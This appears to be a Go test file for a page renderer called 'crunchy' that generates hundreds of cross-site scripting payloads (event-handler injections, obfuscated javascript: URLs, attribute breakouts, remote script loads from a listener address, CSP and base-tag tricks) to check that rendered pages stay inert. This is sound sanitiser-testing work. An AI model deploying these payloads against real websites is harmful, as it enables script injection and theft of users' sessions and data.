package web_test

import (
	"fmt"
	"strings"

	"golang.org/x/net/html"

	"crunchy/pages"
)

// payload is a piece of a page that wants to run a script: § is the call by which it
// would tell so, ¤ the address of a listener elsewhere, which serves scripts.
type payload struct {
	kind, text string
	// file is the extension of a page that it is all of; "" is a part of an HTML page.
	file string
	// alone: what comes behind it on the same page would be a part of it. whole: so it is
	// in a page of the form that it is in.
	alone, whole bool
}

// payloads makes all of them. Each is there once; its number is its place.
func payloads(listener string) []payload {
	var all []payload
	add := func(kind, file string, texts ...string) {
		for _, text := range texts {
			all = append(all, payload{kind: kind, text: text, file: file})
		}
	}
	add("element", "", elementPayloads()...)
	add("event", "", eventPayloads()...)
	add("scheme", "", schemePayloads()...)
	add("attribute", "", attributePayloads()...)
	add("mutation", "", mutationPayloads...)
	add("drawing", "", drawingPayloads...)
	add("style", "", stylePayloads...)
	add("loading", "", loadingPayloads...)
	add("vocabulary", "", vocabularyPayloads()...)
	add("markdown", "md", markdownPayloads()...)
	add("notebook", "ipynb", notebookPayloads()...)
	add("rest", "rst", "Title\n=====\n\n.. raw:: html\n\n   <script>§</script><img src=x onerror=§>\n\n`a <javascript:§>`_\n\n.. image:: javascript:§\n   :target: javascript:§\n",
		".. crunchy:: editor\n\n   print('</script><img src=x onerror=§>')\n\n.. _x: javascript:§\n\nx_ :sub:`<img src=x onerror=§>`\n")
	add("program", "py", "\"\"\"<img src=x onerror=§><script>§</script>\"\"\"\n# </pre></code><script>§</script>\nprint('<svg onload=§>')\n")
	add("encoding", "html", encodingPayloads()...)
	for i := range all {
		p := &all[i]
		p.text = strings.NewReplacer("§", fmt.Sprintf("hit(%d)", i), "¤", fmt.Sprintf("%s/%d", listener, i)).Replace(p.text)
		p.alone = p.file == "html" || swallows(p.text)
		p.whole = p.file != "md" && (p.file != "" || p.alone) || p.file == "md" && swallowsMarkdown(p.text)
	}
	return all
}

// swallows reports whether what follows a piece of HTML does not stay outside of it, or
// would be led elsewhere by it.
func swallows(text string) bool {
	doc, err := html.Parse(strings.NewReader("<!DOCTYPE html><body><div>" + text + "</div><p id=behind>behind</p>"))
	if err != nil {
		return true
	}
	alone := true
	var visit func(n *html.Node, in bool)
	visit = func(n *html.Node, in bool) {
		for _, a := range n.Attr {
			if a.Key == "id" && a.Val == "behind" {
				alone = in
			}
		}
		body := n.Type == html.ElementNode && n.Data == "body"
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c, n.Type != html.DocumentNode && n.Data != "html" && !body)
		}
	}
	visit(doc, false)
	lower := strings.ToLower(text)
	return alone || strings.Contains(lower, "<base") || strings.Contains(lower, "http-equiv") || strings.Contains(lower, "<frame")
}

// swallowsMarkdown reports the same of Markdown.
func swallowsMarkdown(text string) bool {
	if strings.HasPrefix(text, "---") || strings.HasPrefix(text, "+++") || strings.HasPrefix(text, "\ufeff") || strings.Contains(text, "]: ") {
		return true // is read as something else where it does not begin the file, or counts for all of it
	}
	p, err := pages.Render(pages.Source{Name: "x.md", Data: []byte(text + "\n\nbehind\n")}, pages.Options{})
	var b strings.Builder
	return err != nil || p.WriteHTML(&b, "") != nil || !strings.Contains(b.String(), "\n<p>behind</p>\n")
}

const elements = `a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button
	canvas caption center cite code col colgroup command content custom-element data datalist dd del details dfn dialog dir div dl dt element em embed
	fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen
	label legend li link listing main map mark marquee menu menuitem meta meter model multicol nav nextid nobr noembed noframes noscript
	object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select
	selectedcontent shadow slot small source spacer span strike strong style sub summary sup table tbody td template textarea tfoot th thead time title tr
	track tt u ul var video wbr x xmp x:script math svg`

// elementPayloads give every element what could make it run something by itself.
func elementPayloads() (all []string) {
	for _, name := range strings.Fields(elements) {
		all = append(all, fmt.Sprintf(`<%s onload=§ onerror=§ onfocus=§ onfocusin=§ ontoggle=§ onbegin=§ onstart=§ onpageshow=§ autofocus tabindex=1 open src=x href=x data=x style="animation: a 1ms" onanimationstart=§>x</%[1]s>`, name))
	}
	return all
}

const events = `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste
	beforeprint beforetoggle beforeunload begin bounce blur cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy
	cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata
	fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message
	mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move online pagehide pageshow paste pause play playing pointercancel
	pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend
	scrollsnapchange search securitypolicyviolation seeked select selectionchange selectstart show slotchange start storage submit suspend timeupdate toggle
	touchstart touchend transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend wheel`

// eventPayloads write every handler, in turn on several elements and in several spellings.
func eventPayloads() (all []string) {
	spellings := []string{
		`<p on%s=§>x</p>`, `<P/ON%s="§">x</P>`, "<div\non%s\n=\n'§'>x</div>", `<svg><circle on%s=§ r=9 /></svg>`, `<math><mi on%s=§>x</mi></math>`, "<b\fon%s=§>x</b>",
		`<img src=data: on%s = §>`, `<p title=x"on%s=§ >x</p>`, `<section class=x on%s=&#104;it&lpar;§&rpar;>x</section>`, `<input type=checkbox on%s=§>`, `<x-y on%s=§ is=z>x</x-y>`,
		`<details open on%s=§><summary on%[1]s=§>x</summary></details>`,
	}
	for i, name := range strings.Fields(events) {
		all = append(all, fmt.Sprintf(spellings[i%len(spellings)], name))
	}
	return all
}

// schemePayloads write addresses that run, in many spellings and many places.
func schemePayloads() (all []string) {
	spellings := []string{
		"javascript:§", "JaVaScRiPt:§", " javascript:§", "\tjavascript:§", "\njavascript:§", "&#1;javascript:§", "&#8;&#27;javascript:§", "\x00javascript:§", "java\x00script:§",
		"java\tscript:§", "java\nscript:§", "java&#10;script:§", "java&#13;script:§", "java&NewLine;script:§", "java&Tab;script:§", "javascript&Tab;:§", "javascript&colon;§",
		"&#x6A;avascript:§", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;§", "&#0000106avascript:§", "&#X6aavascript:§", "javascript:/**/§", "javascript://%0a§", "javascript://x/%250a%0a§",
		"javascript:void(§)", "javascript:'<img src=x onerror=§>'", "%6Aavascript:§", "javascript%3A§", "ｊavascript:§", "javaſcript:§", "javascript：§", "&nbsp;javascript:§", "\ufeffjavascript:§", "\u2028javascript:§", "\u200bjavascript:§",
		"x:javascript:§", "feed:javascript:§", "view-source:javascript:§", "jar:javascript:§!/", "vbscript:§", "livescript:§", "mocha:§", "data:text/html,<script>§</script>", "data:text/html;charset=utf-7,+ADw-script+AD4-§+ADw-/script+AD4-",
		"data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=", "DATA:,§", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>§</script>",
		"data:image/png,<script>§</script>", "data:image/png;base64,x;<script>§</script>", "data:text/javascript,§", "blob:§", "filesystem:§", "about:blank#§", "//javascript:§", "/javascript:§", `\javascript:§`, "javascript:§//http://", "http://x/\njavascript:§", "mailto:x?javascript:§",
	}
	for _, s := range spellings {
		all = append(all, `<a href="`+s+`">x</a>`)
	}
	places := []string{
		`<svg><a href="%s"><text y="9">x</text></a></svg>`, `<svg><a xlink:href="%s"><text y="9">x</text></a></svg>`, `<math href="%s">x</math>`, `<math><mi xlink:href="%s">x</mi></math>`, `<math><maction actiontype="statusline#http://x" xlink:href="%s">x</maction></math>`,
		`<form action="%s"><input type=submit></form>`, `<form><button formaction="%s">x</button></form>`, `<form><input type=image formaction="%s" src=x></form>`, `<form id=f></form><button form=f formaction="%s">x</button>`,
		`<map name=m><area href="%s" shape=default></map><img usemap=#m src=x>`, `<iframe src="%s"></iframe>`, `<frameset><frame src="%s"></frameset>`, `<embed src="%s">`, `<object data="%s"></object>`, `<object><param name=src value="%s"></object>`, `<applet code="%s" codebase=x></applet>`,
		`<img src="%s">`, `<img srcset="%s 2x">`, `<img lowsrc="%s" dynsrc="%[1]s">`, `<image xlink:href="%s">`, `<picture><source srcset="%s"><img></picture>`, `<video src="%s" poster="%[1]s"></video>`, `<audio><source src="%s"></audio>`, `<video><track src="%s" default></video>`,
		`<body background="%s">`, `<table background="%s"><td background="%[1]s">x</table>`, `<link rel=stylesheet href="%s">`, `<link rel="prefetch import preload modulepreload manifest" as=script href="%s">`, `<base href="%s">`, `<script src="%s"></script>`, `<svg><script href="%s"></script></svg>`,
		`<meta http-equiv=refresh content="0;url=%s">`, `<META HTTP-EQUIV="Refresh" CONTENT="0; %s">`, `<bgsound src="%s">`, `<isindex action="%s" type=image>`, `<blockquote cite="%s">x</blockquote>`, `<portal src="%s"></portal>`, `<fencedframe src="%s"></fencedframe>`, `<input type=image src="%s">`, `<a ping="%s" href=#x>x</a>`, `<a href="#x" download="%s">x</a>`,
		`<svg><use href="%s#x"/></svg>`, `<svg><image href="%s"/></svg>`, `<svg><a><animate attributeName=href values="%s"/><text y=9>x</text></a></svg>`, `<svg><a><set attributeName=xlink:href to="%s"/><text y=9>x</text></a></svg>`, `<svg><a><animate attributeName=href from=x to="%s" begin=0s dur=1ms fill=freeze /><text y=9>x</text></a></svg>`,
		`<svg><feImage href="%s"/></svg>`, `<svg><rect fill="url('%s')" style="fill:url(%[1]s)"/></svg>`, `<svg><foreignObject><iframe src="%s"></iframe></foreignObject></svg>`, `<p style="background:url(%s)">x</p>`, `<p style="behavior:url(%s);-moz-binding:url('%[1]s')">x</p>`, `<ul style="list-style-image:url(%s)"><li>x</ul>`,
	}
	for i, place := range places {
		all = append(all, fmt.Sprintf(place, spellings[i%10]), fmt.Sprintf(place, spellings[42+i%9]))
	}
	return all
}

// attributePayloads break out of the value of every attribute that a page may have, and of
// some that it may not.
func attributePayloads() (all []string) {
	out := []string{
		`"%s='&quot;><img src=x onerror=§>'"`, `%s='"><img src=x onerror=§>'`, "%s=`><img/src=x/onerror=§>`", `%s="&lt;/p&gt;&lt;script&gt;§&lt;/script&gt;"`, `%s="--><img src=x onerror=§>"`, `%s='</style></title></textarea></xmp><img src=x onerror=§>'`,
		`%s="' onmouseover='§"`, `%s='&#34;&#32;onmouseover=§ &#34;'`, "%s=x\x0bonmouseover=§", `%s="\" onmouseover=\"§"`, `%s=<img/src=x/onerror=§>`, `%s="&amp;quot;><svg onload=§>"`,
	}
	names := strings.Fields(`id class lang dir title style role alt summary name abbr headers face color label content datetime placeholder for target rel type media shape coords usemap
		aria-label aria-describedby data-x data-crunchy data-crunchy-tip data-crunchy-line data-crunchy-says data-crunchy-loader data-crunchy-added data-do data-for data-name data-target itemprop about slot part is nonce integrity
		accesskey contenteditable popover popovertarget commandfor shadowrootmode http-equiv xmlns xml:base xlink:href srcdoc sandbox allow`)
	for i, name := range names {
		all = append(all, "<p "+fmt.Sprintf(out[i%len(out)], name)+">x</p>", "<img src=x "+fmt.Sprintf(out[(i+5)%len(out)], name)+">")
	}
	return all
}

// loadingPayloads fetch a script, a style sheet or a frame from elsewhere.
var loadingPayloads = []string{
	`<script src="¤.js"></script>`, `<script src=¤.js async defer></script>`, `<script type=module src="¤.js"></script>`, `<script type="text/javascript;version=1.7" src=¤.js></script>`, `<script type=module>import "¤.js"</script>`,
	`<script type=importmap>{"imports":{"x":"¤.js"}}</script><script type=module>import "x"</script>`, `<script type=speculationrules>{"prerender":[{"source":"list","urls":["¤.html"]}]}</script>`, `<svg><script xlink:href="¤.js"/></svg>`, `<svg><script href="¤.js"></script></svg>`,
	`<link rel=stylesheet href="¤.css">`, `<link rel=modulepreload href="¤.js">`, `<link rel=import href="¤.html">`, `<link rel="alternate stylesheet" title=x href="¤.css">`, `<iframe src="¤.html"></iframe>`, `<iframe srcdoc="<script>§</script>"></iframe>`, `<iframe srcdoc='&lt;img src=x onerror=§&gt;'></iframe>`,
	`<iframe/onload=§ src=about:blank></iframe>`, `<iframe name=x src="javascript:parent.§"></iframe>`, `<object data="¤.html" type=text/html></object>`, `<object data="¤.svg" type="image/svg+xml"></object>`, `<embed src="¤.svg" type="image/svg+xml">`, `<embed src="¤.html">`,
	`<base href="¤/"><script src="x.js"></script>`, `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>§</script>`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>§</script>">`, `<meta http-equiv="set-cookie" content="a=§">`, `<meta http-equiv=Link content="<¤.css>; rel=stylesheet">`,
	`<script nonce>§</script>`, `<script nonce="">§</script>`, `<script nonce="NONCE">§</script>`, `<script nonce=aaaaaaaaaaaaaaaaaaaaaa src="¤.js"></script>`, `<script src="¤.js" x="`, `<script src='¤.js' x='`, `<script src=¤.js x=`, `<script src="¤.js" <!--`, `<svg><script href="¤.js" x="`, `<script src="¤.js"`, `<base href="¤/" x='`, `<base target='`,
	`<form action="¤.html" id=f><button type=submit>x</button></form><input form=f autofocus onfocus=§>`, `<a href="#" ping="¤.html" onclick=§>x</a>`, `<style>@import "¤.css";</style>`, `<video><source onerror=§ src=x></video>`, `<audio src=x onerror=§ autoplay></audio>`, `<input type=image src=x onerror=§>`, `<object data=x onerror=§></object>`,
	`<button popovertarget=x onclick=§>x</button><div popover id=x onbeforetoggle=§>y</div>`, `<button commandfor=d command=show-modal>x</button><dialog id=d ontoggle=§>y</dialog>`, `<select onfocus=§ autofocus></select>`, `<textarea onfocus=§ autofocus></textarea>`, `<keygen autofocus onfocus=§>`, `<marquee onstart=§ loop=1 width=0>x</marquee>`,
	`<body onload=§>`, `<body onpageshow=§><body onhashchange=§ onresize=§>`, `<html onmouseover=§ manifest=¤.html>`, `<frameset onload=§><frame src="¤.html"></frameset>`, `<script>§</script>`, `<script>\u0068it(§)</script>`, `<script>/*</script><script>*/§</script>`, `<sCrIpT/x y=">">§</ScRiPt >`, `<script for=window event=onload>§</script>`, `<script language=javascript>§</script>`, `<script src=data:text/javascript,§></script>`, `<script src="data:;base64,aGl0KDAp"></script>`,
	`<details open ontoggle=§><summary>x</summary></details>`, `<div style="animation:a 1s" onanimationstart=§>x</div><style>@keyframes a{}</style>`, `<div style="transition:color 1ms;color:red" ontransitionend=§ tabindex=1>x</div>`, `<div contenteditable autofocus onfocus=§>x</div>`, `<div hidden=until-found id=zz onbeforematch=§>x</div>`,
}
